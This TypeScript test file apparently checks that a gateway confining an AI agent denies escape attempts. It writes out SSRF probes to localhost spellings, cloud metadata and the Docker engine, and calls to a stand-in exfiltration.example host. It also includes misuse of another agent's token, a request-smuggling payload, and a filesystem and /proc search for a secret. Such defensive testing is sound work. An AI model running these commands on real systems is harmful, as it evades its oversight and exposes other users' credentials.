import type { Attempt } from './attempt.ts';

const DENIED = /denied by the gateway|CONNECT tunnel failed, response 4\d\d/;
const curl = (args: string) => `curl -sS -m 5 -g -w ' %{http_code}' ${args}`;

/** By CONNECT and as plain HTTP, since the gateway decides on both. */
const bothWays = (host: string, port = '$SERVER_PORT') =>
  `${curl(`http://${host}:${port}/tools`)}; ${curl(`-p http://${host}:${port}/tools`)}`;

const PRIVATE = 'not_public';

/** Spellings of the server's own address; all are on the allow-list when they are tried. */
const OWN_SERVER = {
  '127.0.0.1': '127.0.0.1',
  '127.1': '127.0.0.1',
  '2130706433': '127.0.0.1',
  '0x7f000001': '127.0.0.1',
  '017700000001': '127.0.0.1',
  '0.0.0.0': '0.0.0.0',
  '[::1]': '::1',
  '[::]': '::',
  '[::ffff:127.0.0.1]': '::ffff:7f00:1',
};

/** What the gateway says no to, even for what a careless user has allowed. */
export const THROUGH_THE_PROXY: readonly Attempt[] = [
  ...Object.entries(OWN_SERVER).map(([spelling, host]) => ({
    name: `the server as ${spelling}`,
    // curl would change some of them.
    command: `printf 'CONNECT ${spelling}:%s HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n' $SERVER_PORT | timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/8211; cat >&3; head -c 300 <&3'; ${bothWays(spelling)}`,
    denied: /^HTTP\/1\.1 4\d\d [\s\S]*denied by the gateway/,
    recorded: { host, reason: PRIVATE },
  })),
  {
    name: 'the server as localhost',
    command: bothWays('localhost').replaceAll('curl ', "curl --noproxy '' "),
    denied: /(denied by|through) the gateway[\s\S]*CONNECT tunnel failed/,
  },
  {
    name: 'the server as host.docker.internal',
    command: bothWays('host.docker.internal'),
    denied: DENIED,
    recorded: { host: 'host.docker.internal', reason: 'not_allowed' },
  },
  {
    name: 'cloud metadata',
    command: `${curl('http://169.254.169.254/latest/meta-data/')}; ${curl('-p http://169.254.169.254/')}`,
    denied: DENIED,
    recorded: { host: '169.254.169.254', reason: PRIVATE },
  },
  {
    name: 'the local network',
    command: bothWays('10.0.0.1'),
    denied: DENIED,
    recorded: { host: '10.0.0.1', reason: PRIVATE },
  },
  {
    name: 'the engine through the proxy',
    command: bothWays('172.17.0.1', '2375'),
    denied: DENIED,
    recorded: { host: '172.17.0.1', reason: 'not_allowed' },
  },
  {
    name: 'an unknown host',
    command: bothWays('exfiltration.example', '443'),
    denied: DENIED,
    recorded: { host: 'exfiltration.example', reason: 'not_allowed' },
  },
];

/** Hosts that are allowed to the attacker on purpose: it is their addresses that are refused. */
export const ALLOWED_IN_VAIN = [
  ...new Set([...Object.values(OWN_SERVER), 'localhost', '10.0.0.1', '169.254.169.254']),
];

const GATEWAY = 'http://127.0.0.1:8211';
const post = (headers: string, path = '/v1/responses') =>
  curl(`--noproxy '*' ${headers} -d '{"model":"x","input":[]}' ${GATEWAY}${path}`);
const UNKNOWN = /does not know this token[\s\S]* 401/;
const NOT_ALLOWED = /does not allow[\s\S]* 403/;
const bearer = (token: string) => `-H "authorization: Bearer ${token}"`;
const own = bearer('$OWN_TOKEN');

/** What is tried at the gateway for the model. */
export const AT_THE_GATEWAY: readonly Attempt[] = [
  { name: 'no token', command: post(''), denied: UNKNOWN },
  { name: 'a made-up token', command: post(bearer('sk-made-up')), denied: UNKNOWN },
  { name: "another agent's token", command: post(bearer('$VICTIM_TOKEN')), denied: UNKNOWN },
  { name: 'a revoked token', command: post(bearer('$REVOKED_TOKEN')), denied: UNKNOWN },
  {
    name: 'two Authorization headers',
    command: post(`${bearer('$VICTIM_TOKEN')} ${own.replace('authorization', 'Authorization')}`),
    denied: UNKNOWN,
  },
  { name: 'x-api-key', command: post('-H "x-api-key: $OWN_TOKEN"'), denied: UNKNOWN },
  {
    name: 'a token in the query',
    command: post('', '/v1/responses?key=$OWN_TOKEN'),
    denied: UNKNOWN,
  },
  { name: '/v1/files', command: post(own, '/v1/files'), denied: NOT_ALLOWED },
  {
    name: '/v1/models/x',
    command: curl(`--noproxy '*' ${own} -X DELETE ${GATEWAY}/v1/models/x`),
    denied: NOT_ALLOWED,
  },
  { name: '/tools', command: post(own, '/tools/list_sessions'), denied: NOT_ALLOWED },
  { name: '/health', command: curl(`--noproxy '*' ${own} ${GATEWAY}/health`), denied: NOT_ALLOWED },
  {
    name: 'dots in the path',
    command: curl(`--noproxy '*' --path-as-is ${own} -d x ${GATEWAY}/v1/responses/../files`),
    denied: NOT_ALLOWED,
  },
  {
    name: 'an absolute address',
    command: `${curl(`-x ${GATEWAY} ${own} http://127.0.0.1:8211/v1/models`)} --noproxy ''`,
    denied: /denied by the gateway[\s\S]* 403/,
  },
  {
    name: 'a smuggled request',
    command: `printf 'POST /v1/files HTTP/1.1\\r\\nhost: x\\r\\nauthorization: Bearer %s\\r\\ncontent-length: 4\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /health HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n' "$OWN_TOKEN" | timeout 2 bash -c 'exec 3<>/dev/tcp/127.0.0.1/8211; cat >&3; head -c 200 <&3'; echo closed`,
    denied: /^(?!HTTP)[\s\S]*closed/,
  },
  {
    name: 'the real key from the model',
    command: `${curl(`-D - --noproxy '*' ${own} ${GATEWAY}/v1/models`)}; echo`,
    denied: /^HTTP\/1\.1 \d+ (?![\s\S]*(authorization|sk-))/i,
  },
];

/** The secret is put together by the search, which would find itself otherwise. */
export const SEARCH = `pattern="$HALF_ONE$HALF_TWO"
timeout 20 grep -rlsF --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=lib -e "$pattern" / 2>/dev/null
timeout 20 find /usr /opt -xdev -type f -size -200k -newer /etc/codex/config.toml -exec grep -lsF -e "$pattern" {} +
for dir in /proc/[0-9]*; do grep -lsF -e "$pattern" $dir/environ $dir/cmdline; done
env | grep -cF -e "$pattern"; find / -xdev -name 'auth.json*' 2>/dev/null; echo end`;
